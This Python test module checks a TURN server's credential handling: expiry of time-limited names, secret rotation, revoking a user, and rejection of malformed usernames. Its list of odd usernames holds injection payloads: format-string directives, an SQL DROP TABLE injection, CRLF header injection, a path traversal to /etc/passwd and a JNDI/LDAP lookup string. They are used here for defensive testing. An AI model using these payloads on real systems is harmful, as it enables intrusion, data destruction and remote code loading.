"""T11: credentials that are too old, too odd, or no longer wanted."""

import base64
import hashlib
import hmac
import signal
import time

import stun
from findings import Attack, Finding
from network import PEER
from subjects import OTHER_SECRET
from turn_client import Refused
from yuelao import SECRET

ODD = {
    "format directives": b"%s%n%x%p%999999s",
    "quotes": b"' OR '1'='1\"; DROP TABLE turnusers_lt; --`",
    "a NUL": b"a\0b",
    "line ends": b"a\r\nSet-Cookie: b\n",
    "a terminal's escape": b"\x1b[2J\x07",
    "480 octets of UTF-8": "\u00e4\u8001".encode() * 96,
    "what is no UTF-8": b"\xff\xfe\xc0\xaf",
    "right to left": "\u202egnp.exe".encode(),
    "a path": b"../../../../etc/passwd",
    "a lookup": b"${jndi:ldap://192.0.2.1/a}",
    "a colon at each end": b":a::b:",
    "nothing": b"",
}


def rest_password(user, secret):
    return base64.b64encode(hmac.new(secret.encode(), user, hashlib.sha1).digest()).decode()


def allocate_as(client, user, secret=SECRET):
    """The error code, None for success; `user` is octets."""
    client._learn(client.ask(stun.ALLOCATE, [stun.UDP_TRANSPORT]))
    password = rest_password(user, secret)
    key = hashlib.md5(user + f":{client.realm}:{password}".encode()).digest()
    return client.ask(stun.ALLOCATE, [
        stun.UDP_TRANSPORT, (stun.USERNAME, user), (stun.REALM, client.realm.encode()),
        (stun.NONCE, client.nonce)], key=key).error


def attempt(stage, subject, user, secret=SECRET):
    """The same by TCP, where every client has an address of its own and nothing is held back."""
    with stage.client(subject, "tcp") as client:
        return allocate_as(client, user, secret)


def expiry(stage, subject):
    """When the last allocation is made under a name that expires, and when the first is refused."""
    expires = int(time.time()) + 2
    user, last, first = f"{expires}:late".encode(), None, None
    while first is None and time.time() < expires + 5:
        asked = time.time()
        if attempt(stage, subject, user) is None:
            last = asked
        else:
            first = time.time()
        time.sleep(0.02)  # what is measured is time
    if first is None:
        return [Finding("a name that expires", "is still good 5 s later", False)]
    return [Finding(
        "a name that expires: last success, first refusal, in seconds from its expiry",
        f"{last - expires:+.2f}, {first - expires:+.2f}", last < expires + 1 and first >= expires)]


def odd_names(stage, subject):
    before = subject.output()
    answers = {}
    for what, name in ODD.items():
        user = f"{int(time.time()) + 600}:".encode() + name
        answers[what] = attempt(stage, subject, user)
    said = subject.output()[len(before):].encode(errors="replace")
    repeated = [what for what, name in ODD.items() if len(name) > 3 and name in said]
    good = [what for what, answer in answers.items() if answer is None]
    refused = {f"{what}: {answer}" for what, answer in answers.items() if answer is not None}
    served = subject.alive and stage.is_served(subject)
    return [Finding(
        "names with format directives, quotes, NUL, line ends, 480 octets of UTF-8, ...",
        f"{len(ODD)} tried: {len(good)} good, {len(refused)} refused"
        + (f" ({', '.join(sorted(refused))})" if refused else "")
        + f"; in the log: {', '.join(repeated) or 'none'}; {'serves' if served else 'does not serve'}",
        served and not repeated)]


def end_of(call, start):
    """When a call ended, in seconds from `start`; None where it goes on for 5."""
    while time.monotonic() < start + 5:
        try:
            call.refresh(600)
        except Refused:
            return time.monotonic() - start
        time.sleep(0.02)  # what is measured is time
    return None


def ends(what, took):
    return Finding(what, "goes on" if took is None else f"ends {took:.2f} s after the signal",
                   took is not None and took < 1, asserted=took is None)


def kicked(stage, kind):
    """One user is to go, with the calls they have; the others are to notice nothing."""
    what = "a session that is to end: its user is denied"
    if kind != "yuelao":
        return [Finding(what, "by its telnet console alone, which its guides turn off", False)]
    with stage.serving(kind) as subject:
        session = stage.allocated(subject, name="mallory", local=PEER[4])
        other = stage.allocated(subject)
        start = time.monotonic()
        subject.reload(denied_users=["mallory"])
        took = end_of(session, start)
        other.refresh(600)  # or an error
        session.socket.close()
        other.socket.close()
    return [ends(what, took)]


def rotation(stage, kind):
    """Two secrets; then the first one is taken away, beside a call of its."""
    both = {"secrets": [{"value": SECRET}, {"value": OTHER_SECRET}]}
    with stage.serving(kind, both, [f"static-auth-secret={OTHER_SECRET}"]) as subject:
        user = f"{int(time.time()) + 600}:rotated".encode()
        accepted = [attempt(stage, subject, user, secret) for secret in (SECRET, OTHER_SECRET)]
        call = stage.allocated(subject, local=PEER[4])
        start = time.monotonic()
        if kind == "yuelao":
            subject.reload(secrets=[{"value": OTHER_SECRET}])
        else:
            subject.file.write_text(subject.file.read_text().replace(SECRET, "another-secret"))
            for reload in (signal.SIGHUP, signal.SIGUSR2):
                subject.process.send_signal(reload)
        took = None
        while took is None and time.monotonic() < start + 5:
            if attempt(stage, subject, user) is not None:
                took = time.monotonic() - start
            else:
                time.sleep(0.02)  # what is measured is time
        kept = attempt(stage, subject, user, OTHER_SECRET)
        call_took = end_of(call, start)
        call.socket.close()
    return [
        Finding("two secrets at once", " and ".join(
            "accepted" if each is None else str(each) for each in accepted),
            accepted == [None, None]),
        Finding("a secret that is taken away", (
            f"refused {took:.2f} s after the signal" if took is not None else
            "still accepted 5 s after every signal to reload: only a restart helps")
            + f"; the other one is {'accepted' if kept is None else kept}",
            took is not None and took < 1 and kept is None),
        ends("a call that was made with it", call_took)]


def run(stage, kind):
    with stage.serving(kind) as subject:
        findings = expiry(stage, subject) + odd_names(stage, subject)
    return findings + rotation(stage, kind) + kicked(stage, kind)


ATTACK = Attack(
    "T11", "Credentials",
    "an expiry is compared with the clock at each allocation; names are octets and are printed "
    "nowhere; secrets and users come and go with SIGHUP, and their calls with them",
    ("tests/turn/authentication_test.cpp", "tests/turn/revocation_test.cpp",
     "tests/interop/revocation_test.py"), run)
